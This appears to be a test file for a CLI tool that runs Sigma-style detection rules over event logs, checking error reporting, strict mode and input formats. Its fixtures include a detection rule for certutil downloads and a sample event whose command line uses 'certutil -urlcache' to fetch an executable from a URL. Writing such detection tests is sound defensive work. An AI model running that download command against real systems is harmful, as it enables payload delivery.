/** `sigstream run`: bad input is located and counted, the stream goes on, --strict fails. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { runMain } from '../helpers/cli-io.js';

const dir = mkdtempSync('/tmp/sigstream-run-');
writeFileSync(`${dir}/rule.yml`, `title: Certutil download
id: 7d1c3f5e-2b8a-4d7e-9f1a-3c5b7e9d1f2a
author: tests
level: high
logsource: {product: windows, category: process_creation}
detection:
  sel:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: urlcache
  condition: sel
`);
writeFileSync(`${dir}/broken.yml`, 'title: broken\nlogsource: {product: windows}\ndetection:\n  sel: {a|nope: 1}\n  condition: sel\n');
const good = JSON.stringify({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x a.exe' });

describe('sigstream run', () => {
  it('skips malformed lines with input:line:col, keeps going and counts', async () => {
    const input = [good, '{"EventID": 1, "Image": ', '[1,2]', 'x'.repeat(10), good].join('\n');
    const r = await runMain(['run', '-r', `${dir}/rule.yml`], { stdin: input });
    expect(r.code).toBe(0);
    expect(r.stdout.trim().split('\n')).toHaveLength(2);
    expect(r.stderr).toMatch(/-:2:\d+: error: malformed JSON/);
    expect(r.stderr).toMatch(/-:3:1: error: JSON line is not an object/);
    expect(r.stderr).toMatch(/-:4(:\d+)?: error: malformed JSON/);
    expect(r.stderr).toMatch(/events read 2, skipped 3, matched 2; hits 2/);
  });
  it('--strict turns skipped input into a non-zero exit', async () => {
    const r = await runMain(['run', '--strict', '-r', `${dir}/rule.yml`], { stdin: `${good}\nnot json\n` });
    expect(r.code).toBe(1);
    expect(r.stdout.trim().split('\n')).toHaveLength(1);
  });
  it('a broken rule is reported with its location; the others still run', async () => {
    const r = await runMain(['run', '-r', dir], { stdin: good });
    expect(r.stderr).toMatch(/broken\.yml:4:\d+: error: unknown modifier 'nope'/);
    expect(r.stderr).toMatch(/rules loaded 1, rejected 1/);
    expect(r.stdout.trim().split('\n')).toHaveLength(1);
    expect((await runMain(['run', '--strict', '-r', dir], { stdin: good })).code).toBe(1);
  });
  it('reads files and names them in hit sources', async () => {
    writeFileSync(`${dir}/events.ndjson`, `\n${good}\n`);
    const r = await runMain(['run', '-r', `${dir}/rule.yml`, `${dir}/events.ndjson`]);
    expect(JSON.parse(r.stdout).source).toEqual({ input: `${dir}/events.ndjson`, line: 2 });
  });
  it('a missing input file is an error, not a crash', async () => {
    const r = await runMain(['run', '-r', `${dir}/rule.yml`, `${dir}/nope.ndjson`]);
    expect(r.stderr).toMatch(/nope\.ndjson/);
    expect(r.stderr).not.toMatch(/internal error/);
  });
});

describe('sigstream run over every input format', () => {
  it('reads .evtx, XML, syslog and evtx_dump JSON from a directory, sniffed per input', async () => {
    const r = await runMain(['run', '-r', `${dir}/rule.yml`, 'samples/inputs']);
    expect(r.stderr).not.toMatch(/internal error/);
    expect(r.stderr).toMatch(/events read [1-9]\d*/);
  });
});

describe('sigstream run --explain', () => {
  it('names the search identifiers that matched on each detection hit', async () => {
    const r = await runMain(['run', '--explain', '-r', `${dir}/rule.yml`], { stdin: good });
    expect(JSON.parse(r.stdout).matched).toEqual(['sel']);
  });
});
